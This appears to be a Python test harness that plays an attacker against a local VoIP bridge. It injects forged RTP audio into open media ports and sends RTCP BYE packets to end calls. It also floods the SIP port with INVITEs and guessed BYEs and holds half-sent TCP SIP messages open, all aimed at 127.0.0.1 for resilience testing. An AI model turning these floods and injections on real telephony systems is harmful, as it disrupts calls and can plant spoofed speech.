"""Somebody who wants to spoil calls, as a process of its own: RTP bleed and injection, RTCP BYE, SIP floods.

    python -m tests.wire.attacker '{"sip": 5060, "rtp": [20000, 20199], "seconds": 8}'

Comes from 127.0.0.2 (media) and 127.0.0.3 (signalling); where the house listens it reads from the kernel, which is more
than a real one knows. Prints one JSON object: what was sent and what came back.
"""

from __future__ import annotations

import contextlib
import json
import random
import socket
import struct
import sys
import time
from collections import Counter
from pathlib import Path
from typing import Any

from bridge.emulator import recordings
from rtpcodecs.g711 import linear_to_ulaw

MEDIA, SIGNALLING = "127.0.0.2", "127.0.0.3"
FRAME = 160  # bytes, 20 ms of G.711
PER_TICK = 3  # packets per port and 20 ms: three times what the party itself sends
INVITES_PER_TICK = 4  # 200 a second
PORTS = 6  # the first ones: a call that was there before us has them
CONNECTIONS = 60  # TCP, each with half a message
CHANCE = random.Random(7)


def open_ports(first: int, last: int) -> list[int]:
    """UDP ports of the range that somebody listens on (proc(5), /proc/net/udp)."""
    found = {int(line.split()[1].partition(":")[2], 16) for line in Path("/proc/net/udp").read_text().splitlines()[1:]}
    return sorted(port for port in found if first <= port <= last)


def speech() -> bytes:
    """Words that nobody in the call says."""
    return linear_to_ulaw(recordings.load()["agent-goodbye"].samples).tobytes()


def rtp(n: int, ssrc: int, audio: bytes) -> bytes:
    at = n * FRAME % (len(audio) - FRAME)
    return struct.pack("!BBHII", 0x80, 0, n & 0xFFFF, n * FRAME & 0xFFFFFFFF, ssrc) + audio[at : at + FRAME]


def goodbye(ssrc: int) -> bytes:
    """RR, SDES and BYE (RFC 3550 section 6)."""
    report = struct.pack("!BBHI", 0x80, 201, 1, ssrc)
    name = struct.pack("!BBHIBB", 0x81, 202, 2, ssrc, 1, 1) + b"x\0"
    return report + name + struct.pack("!BBHI", 0x81, 203, 1, ssrc)


def invite(n: int, local: tuple[str, int], port: int) -> bytes:
    body = "v=0\r\no=- 1 1 IN IP4 127.0.0.3\r\ns=-\r\nc=IN IP4 127.0.0.3\r\nt=0 0\r\nm=audio 9 RTP/AVP 0\r\n"
    return (
        f"INVITE sip:flow@127.0.0.1:{port} SIP/2.0\r\nVia: SIP/2.0/UDP {local[0]}:{local[1]};branch=z9hG4bKf{n}\r\n"
        f"Max-Forwards: 70\r\nFrom: <sip:flood@127.0.0.3>;tag=f{n}\r\nTo: <sip:flow@127.0.0.1>\r\n"
        f"Call-ID: flood{n}\r\nCSeq: 1 INVITE\r\nContact: <sip:flood@{local[0]}:{local[1]}>\r\n"
        f"Content-Type: application/sdp\r\nContent-Length: {len(body)}\r\n\r\n{body}"
    ).encode()


def guess(n: int, local: tuple[str, int]) -> bytes:
    """A BYE for a dialog that it does not know."""
    return (
        f"BYE sip:flow@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/UDP {local[0]}:{local[1]};branch=z9hG4bKg{n}\r\n"
        f"Max-Forwards: 70\r\nFrom: <sip:a@b>;tag={n}\r\nTo: <sip:flow@127.0.0.1>;tag={CHANCE.getrandbits(64):x}\r\n"
        f"Call-ID: {CHANCE.getrandbits(64):x}\r\nCSeq: {n + 2} BYE\r\nContent-Length: 0\r\n\r\n"
    ).encode()


def udp(host: str) -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((host, 0))
    sock.setblocking(False)
    return sock


def attack(told: dict[str, Any]) -> Counter[str]:
    counts: Counter[str] = Counter()
    media, signalling, audio = udp(MEDIA), udp(SIGNALLING), speech()
    neighbour = udp("127.0.0.1") if told.get("neighbour") else None
    halves = [half_message(told["sip"]) for _ in range(CONNECTIONS)]
    began = time.monotonic()
    ssrc, n = CHANCE.getrandbits(32), 0
    ports = open_ports(*told["rtp"])[:PORTS]
    while (due := began + n * 0.02) < began + told["seconds"]:
        time.sleep(max(due - time.monotonic(), 0))
        with contextlib.suppress(BlockingIOError, ConnectionRefusedError):
            for port in ports:
                for k in range(PER_TICK):
                    data = goodbye(ssrc) if port % 2 else rtp(n * PER_TICK + k, ssrc, audio)
                    for sock in (media, neighbour) if neighbour else (media,):
                        counts["media"] += sock.sendto(data, ("127.0.0.1", port)) > 0
                media.sendto(CHANCE.randbytes(CHANCE.randrange(1, 400)), ("127.0.0.1", port))
            for k in range(INVITES_PER_TICK):
                number = n * INVITES_PER_TICK + k
                data = invite(number, signalling.getsockname(), told["sip"])
                counts["invites"] += signalling.sendto(data, ("127.0.0.1", told["sip"])) > 0
            signalling.sendto(guess(n, signalling.getsockname()), ("127.0.0.1", told["sip"]))
            signalling.sendto(CHANCE.randbytes(CHANCE.randrange(1, 1400)), ("127.0.0.1", told["sip"]))
        with contextlib.suppress(BlockingIOError):
            while answer := signalling.recv(65535):
                counts[answer[8:11].decode("latin-1") if answer.startswith(b"SIP/2.0 ") else "request"] += 1
        n += 1
    counts["connections"] = len(halves)
    return counts


def half_message(port: int) -> socket.socket:
    """A connection that never ends its first header."""
    sock = socket.socket()
    sock.bind((SIGNALLING, 0))
    sock.connect(("127.0.0.1", port))
    sock.sendall(b"INVITE sip:flow@127.0.0.1 SIP/2.0\r\nVia: SIP/2.0/TCP x;branch=z9hG4bK")
    return sock


if __name__ == "__main__":
    print(json.dumps(attack(json.loads(sys.argv[1]))))
